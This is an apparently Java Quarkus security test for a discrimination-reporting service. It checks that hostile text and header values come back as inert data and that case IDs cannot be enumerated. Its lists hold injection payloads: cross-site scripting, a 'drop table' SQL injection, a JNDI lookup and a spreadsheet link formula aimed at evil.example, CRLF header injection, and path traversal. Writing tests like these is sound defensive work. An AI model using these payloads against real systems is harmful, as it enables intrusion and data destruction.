package nl.stagepact.discrimination;

import static io.restassured.RestAssured.given;
import static nl.stagepact.discrimination.AReport.BASE;
import static nl.stagepact.discrimination.AReport.by;
import static nl.stagepact.discrimination.AReport.sent;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.contains;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.startsWith;

import java.sql.SQLException;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Stream;

import javax.sql.DataSource;

import jakarta.inject.Inject;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.security.TestSecurity;
import io.quarkus.test.security.oidc.Claim;
import io.quarkus.test.security.oidc.OidcSecurity;
import io.restassured.response.Response;
import nl.stagepact.testkit.RealPostgres;

/** Texts that want to be run, and headers that want to be two: kept as they are, shown as data, and never in a problem. */
@QuarkusTest
@QuarkusTestResource(RealPostgres.class)
@TestSecurity(user = "adviser", roles = "confidential-adviser")
@OidcSecurity(claims = { @Claim(key = "sub", value = "6f1ed002-ab5a-4f3c-8c5d-1d6b1a2c3d4e"),
        @Claim(key = "institution_code", value = "99DA") })
class HostileTextTest {

    private static final List<String> TEXTS = List.of("<script>alert(document.cookie)</script>",
            "\"><img src=x onerror=alert(1)>",
            "'; drop table sealed_entry; --", "${jndi:ldap://evil.example/a}", "{{7*7}} #{7*7}", "%0d%0aSet-Cookie: a=b",
            "=HYPERLINK(\"https://evil.example\")", "\u202emoc.live", "x".repeat(9_000));
    private static final List<String> HEADERS = List.of("<script>", "ABCD-EFGH", "0".repeat(300), "%0d%0aSet-Cookie: a=b",
            "${jndi:ldap://evil.example/a}", "' or 1=1 --");

    @Inject
    DataSource database;

    @Inject
    ADesk desks;

    @Inject
    AsDesk asDesk;

    @BeforeEach
    void desksOfEachKind() throws SQLException {
        EmptyTables.in(database);
        desks.ofEachKind();
    }

    @ParameterizedTest
    @MethodSource("texts")
    void textsComeBackAsTheyWereSentAndAsData(String text) {
        String code = sent(AReport.ANONYMOUS);
        UUID caseId = asDesk.cases("99DA").getFirst();
        assertThat(by(code).body(Map.of("text", text)).post(BASE + "/own-report/accounts").statusCode()).isEqualTo(204);
        assertThat(by(code).body(Map.of("text", text)).post(BASE + "/own-report/messages").statusCode()).isEqualTo(204);
        given().contentType("application/json").body(Map.of("text", text)).post(BASE + "/cases/" + caseId + "/notes").then()
                .statusCode(204);
        Response read = given().get(BASE + "/cases/" + caseId);
        read.then().statusCode(200).body("report.accounts.text", contains(AReport.ACCOUNT, text))
                .header("Content-Type", startsWith("application/json")).header("X-Content-Type-Options", equalTo("nosniff"));
        given().get(BASE + "/cases/" + caseId + "/notes").then().body("items.text", contains(text));
        by(code).get(BASE + "/own-report").then().body("messages.text", contains(text));
    }

    @ParameterizedTest
    @MethodSource("texts")
    void textsThatAreRefusedAreNotInTheProblem(String text) {
        String code = sent(AReport.ANONYMOUS);
        Response refused = by(code).body(Map.of("text", text, "tekst", text)).post(BASE + "/own-report/messages");
        assertThat(refused.statusCode()).isEqualTo(400);
        assertThat(refused.asString()).doesNotContain(text.substring(0, Math.min(text.length(), 12)));
    }

    /** A code that is none is answered like one that nobody has, whatever it is. */
    @ParameterizedTest
    @MethodSource("headers")
    void headersAreNeitherSplitNorShown(String header) {
        for (Response answer : List.of(by(header).get(BASE + "/own-report"),
                given().header("Link-Code", header).get(BASE + "/company-request"))) {
            assertThat(answer.statusCode()).isEqualTo(404);
            assertThat(answer.getHeader("Set-Cookie")).isNull();
            assertThat(answer.asString()).doesNotContain(header);
        }
    }

    /** Ids of cases are random; whoever tries some learns no more than that they are not there. */
    @Test
    void enumerationFindsNothing() {
        sent(AReport.ANONYMOUS);
        UUID real = asDesk.cases("99DA").getFirst();
        UUID near = new UUID(real.getMostSignificantBits(), real.getLeastSignificantBits() ^ 1);
        String ofNone = given().get(BASE + "/cases/" + UUID.randomUUID()).asString().replaceAll("[0-9a-f-]{36}", "");
        assertThat(given().get(BASE + "/cases/" + near).asString().replaceAll("[0-9a-f-]{36}", "")).isEqualTo(ofNone);
        given().get(BASE + "/cases/1").then().statusCode(404);
        given().get(BASE + "/cases/..%2f" + real).then().statusCode(404);
    }

    static Stream<String> texts() {
        return TEXTS.stream();
    }

    static Stream<String> headers() {
        return HEADERS.stream();
    }
}
